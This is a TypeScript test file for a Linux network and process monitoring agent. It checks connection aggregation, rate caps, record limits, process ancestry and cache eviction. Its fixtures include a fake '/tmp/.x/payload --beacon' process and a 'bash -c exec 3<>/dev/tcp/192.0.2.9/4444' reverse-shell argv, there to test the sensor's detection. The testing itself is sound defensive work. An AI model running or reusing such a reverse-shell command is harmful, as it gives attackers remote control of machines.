// ConnectionAggregator and ProcessCache on literal event sequences.

import t from "tap";
import { ConnectionAggregator } from "oddwire-agent/collect/linux/events/connection-aggregator.js";
import { ProcessCache, type ProcessInfo } from "oddwire-agent/collect/linux/events/process-cache.js";
import type { ConnectionEvent, ExecEvent } from "oddwire-agent/collect/linux/events/parse-bpftrace-line.js";

type Timed<T> = T & { timeMs: number };
const T0 = 1_764_600_000_000;

function connect(pid: number, timeMs: number, dest = "203.0.113.9", port = 443, outcome: "established" | "failed" = "established"): Timed<ConnectionEvent> {
  return {
    kind: "connect",
    monoNs: 0n,
    pid,
    tid: pid,
    uid: 1000,
    comm: "curl",
    family: 4,
    localAddress: "10.0.0.2",
    localPort: 40000 + (timeMs % 1000),
    remoteAddress: dest,
    remotePort: port,
    outcome,
    timeMs,
  };
}
function accept(pid: number, timeMs: number, from: string, peerPort: number): Timed<ConnectionEvent> {
  return { kind: "accept", monoNs: 0n, pid, tid: pid, uid: 0, comm: "sshd", family: 4, localAddress: "10.0.0.2", localPort: 22, remoteAddress: from, remotePort: peerPort, timeMs };
}
function udp(pid: number, timeMs: number, direction: "send" | "recv"): Timed<ConnectionEvent> {
  return { kind: "udp", monoNs: 0n, pid, tid: pid, uid: 0, comm: "dig", family: 6, localAddress: "::1", localPort: 5353, remoteAddress: "::1", remotePort: 53, direction, timeMs };
}
function exec(pid: number, ppid: number, timeMs: number, filename: string): Timed<ExecEvent> {
  return { kind: "exec", monoNs: 0n, pid, tid: pid, uid: 1000, comm: filename.split("/").pop()!.slice(0, 15), ppid, filename, timeMs };
}

t.test("records per process and destination: first/last seen and counts", async (t) => {
  const cache = new ProcessCache();
  const agg = new ConnectionAggregator({ cache }, T0);
  agg.add(connect(100, T0 + 5000));
  agg.add(connect(100, T0 + 1000));
  agg.add(connect(100, T0 + 9000, "203.0.113.9", 443, "failed"));
  agg.add(connect(100, T0 + 2000, "203.0.113.9", 80));
  agg.add(connect(101, T0 + 3000));
  agg.add(accept(7, T0 + 4000, "198.51.100.1", 50001));
  agg.add(accept(7, T0 + 4500, "198.51.100.1", 50002));
  agg.add(udp(9, T0 + 100, "send"));
  agg.add(udp(9, T0 + 200, "recv"));
  const b = agg.flush(T0 + 60000);
  t.equal(b.startMs, T0);
  t.equal(b.endMs, T0 + 60000);
  t.equal(b.accepted, 9);
  t.same(b.dropped, { rate: 0, records: 0, kernel: 0 });
  const brief = b.records.map((r) => [r.kind, r.pid, r.remoteAddress, r.remotePort, r.localPort, r.count, r.failed, r.firstSeenMs - T0, r.lastSeenMs - T0]);
  t.same(brief, [
    ["tcp-out", 100, "203.0.113.9", 443, 0, 3, 1, 1000, 9000],
    ["tcp-out", 100, "203.0.113.9", 80, 0, 1, 0, 2000, 2000],
    ["tcp-out", 101, "203.0.113.9", 443, 0, 1, 0, 3000, 3000],
    ["tcp-in", 7, "198.51.100.1", 0, 22, 2, 0, 4000, 4500],
    ["udp-out", 9, "::1", 53, 0, 1, 0, 100, 100],
    ["udp-in", 9, "::1", 0, 5353, 1, 0, 200, 200],
  ]);
  const next = agg.flush(T0 + 120000);
  t.same(next.records, [], "a flush starts a new batch");
  t.equal(next.startMs, T0 + 60000);
});

t.test("the rate cap drops exactly what is over it, per second of event time", async (t) => {
  const agg = new ConnectionAggregator({ cache: new ProcessCache(), maxEventsPerSecond: 10 }, T0);
  let accepted = 0;
  // Second 0: 25 events (15 over). Second 1: 10 (none over). Second 2: 11 (1 over), then a
  // late event stamped in second 1 arriving during second 2 counts against second 2 (1 more over).
  for (let i = 0; i < 25; i++) if (agg.add(connect(100, T0 + i * 10))) accepted++;
  for (let i = 0; i < 10; i++) if (agg.add(connect(100, T0 + 1000 + i))) accepted++;
  for (let i = 0; i < 11; i++) if (agg.add(connect(200, T0 + 2000 + i, "192.0.2.1"))) accepted++;
  if (agg.add(connect(300, T0 + 1999))) accepted++;
  agg.noteKernelLost(3);
  const b = agg.flush(T0 + 3000);
  t.equal(accepted, 30);
  t.equal(b.accepted, 30);
  t.same(b.dropped, { rate: 17, records: 0, kernel: 3 });
  t.same(
    b.records.map((r) => [r.pid, r.count]),
    [
      [100, 20],
      [200, 10],
    ],
  );
});

t.test("the record bound: a new destination past maxRecords is dropped and counted; known ones still count", async (t) => {
  const agg = new ConnectionAggregator({ cache: new ProcessCache(), maxRecords: 2, maxEventsPerSecond: 1000 }, T0);
  t.ok(agg.add(connect(1, T0, "192.0.2.1")));
  t.ok(agg.add(connect(1, T0, "192.0.2.2")));
  t.notOk(agg.add(connect(1, T0, "192.0.2.3")));
  t.notOk(agg.add(connect(2, T0, "192.0.2.1")));
  t.ok(agg.add(connect(1, T0 + 1, "192.0.2.1")));
  const b = agg.flush(T0 + 10);
  t.same(b.dropped, { rate: 0, records: 2, kernel: 0 });
  t.same(
    b.records.map((r) => [r.remoteAddress, r.count]),
    [
      ["192.0.2.1", 2],
      ["192.0.2.2", 1],
    ],
  );
  t.throws(() => new ConnectionAggregator({ cache: new ProcessCache(), maxEventsPerSecond: 0 }), /maxEventsPerSecond must be a positive integer/);
});

t.test("a process that exec'd, connected and exited is named from the exec cache, with its parents", async (t) => {
  const cache = new ProcessCache();
  cache.recordExec(exec(500, 1, T0, "/usr/sbin/sshd"), { exe: "/usr/sbin/sshd", cmdline: "sshd: /usr/sbin/sshd -D" });
  cache.recordExec(exec(600, 500, T0 + 10, "/bin/bash"), { exe: "/usr/bin/bash", cmdline: "-bash" });
  cache.recordExec(exec(700, 600, T0 + 20, "/tmp/x"), { exe: "/tmp/.x/payload", cmdline: "/tmp/x --beacon 203.0.113.9" });
  // Gone before /proc was read: only the event's own filename is known.
  cache.recordExec(exec(701, 600, T0 + 30, "/usr/bin/true"), { exe: null, cmdline: null });
  const agg = new ConnectionAggregator({ cache }, T0);
  agg.add(connect(700, T0 + 50));
  agg.add(connect(701, T0 + 60));
  agg.add(connect(999, T0 + 70));
  const [a, b, c] = agg.flush(T0 + 100).records;
  t.match(a, { pid: 700, exe: "/tmp/.x/payload", cmdline: "/tmp/x --beacon 203.0.113.9" });
  t.same(a!.ancestry, [
    { pid: 600, exe: "/usr/bin/bash" },
    { pid: 500, exe: "/usr/sbin/sshd" },
    { pid: 1, exe: null },
  ]);
  t.match(b, { pid: 701, exe: "/usr/bin/true", cmdline: "" });
  t.match(c, { pid: 999, exe: null, cmdline: null, ancestry: [] }, "unknown and no fallback");
});

t.test("the fallback names a process older than the tracer, once, and the cache keeps it", async (t) => {
  const cache = new ProcessCache();
  const asked: number[] = [];
  const fallback = (pid: number): ProcessInfo | null => {
    asked.push(pid);
    return pid === 42 ? { pid, ppid: 1, uid: 0, comm: "nginx", exe: "/usr/sbin/nginx", cmdline: "nginx: worker", complete: true, execTimeMs: 0 } : null;
  };
  const agg = new ConnectionAggregator({ cache, fallback }, T0);
  agg.add(accept(42, T0, "198.51.100.7", 1));
  agg.add(accept(42, T0 + 1, "198.51.100.8", 1));
  agg.add(accept(43, T0 + 2, "198.51.100.8", 1));
  const b = agg.flush(T0 + 10);
  // Its parent (pid 1, unknown to this fallback) is asked for each new record's ancestry: a parent older than the tracer is named when it can be.
  t.same(asked, [42, 1, 1, 43], "42 asked once, then served from the cache");
  t.same(
    b.records.map((r) => r.exe),
    ["/usr/sbin/nginx", "/usr/sbin/nginx", null],
  );
});

t.test("the process cache is bounded and forgets after its ttl", async (t) => {
  const cache = new ProcessCache({ maxEntries: 3, ttlMs: 1000 });
  for (let pid = 1; pid <= 5; pid++) cache.recordExec(exec(pid, 0, T0 + pid, `/bin/p${pid}`), { exe: `/bin/p${pid}`, cmdline: `p${pid}` });
  t.equal(cache.size, 3);
  t.equal(cache.evicted, 2);
  t.equal(cache.get(1, T0 + 10), null, "the least recently used went first");
  t.equal(cache.get(3, T0 + 10)?.exe, "/bin/p3");
  cache.recordExec(exec(6, 0, T0 + 20, "/bin/p6"), { exe: "/bin/p6", cmdline: "p6" });
  t.equal(cache.get(4, T0 + 20), null, "3 was used, so 4 was the oldest");
  t.equal(cache.get(3, T0 + 2000), null, "expired");
  cache.expire(T0 + 5000);
  t.equal(cache.size, 0);
  // A parent loop (pid reuse) does not hang ancestry.
  const loop = new ProcessCache();
  loop.recordExec(exec(10, 11, T0, "/a"), { exe: "/a", cmdline: "" });
  loop.recordExec(exec(11, 10, T0, "/b"), { exe: "/b", cmdline: "" });
  t.same(loop.ancestry(10, T0), [{ pid: 11, exe: "/b" }]);
});

t.test("a process gone before /proc was read keeps the argv the sensor read at exec", async (t) => {
  const cache = new ProcessCache();
  const info = cache.recordExec({ ...exec(800, 1, T0, "/usr/bin/bash"), args: "bash -c exec 3<>/dev/tcp/192.0.2.9/4444" }, { exe: null, cmdline: null });
  t.same([info.exe, info.cmdline, info.complete], ["/usr/bin/bash", "bash -c exec 3<>/dev/tcp/192.0.2.9/4444", false]);
  const fromProc = cache.recordExec({ ...exec(801, 1, T0, "/usr/bin/bash"), args: "bash -c cut" }, { exe: "/usr/bin/bash", cmdline: "bash -c the whole command line" });
  t.equal(fromProc.cmdline, "bash -c the whole command line", "/proc's full command line wins when it was read");
});
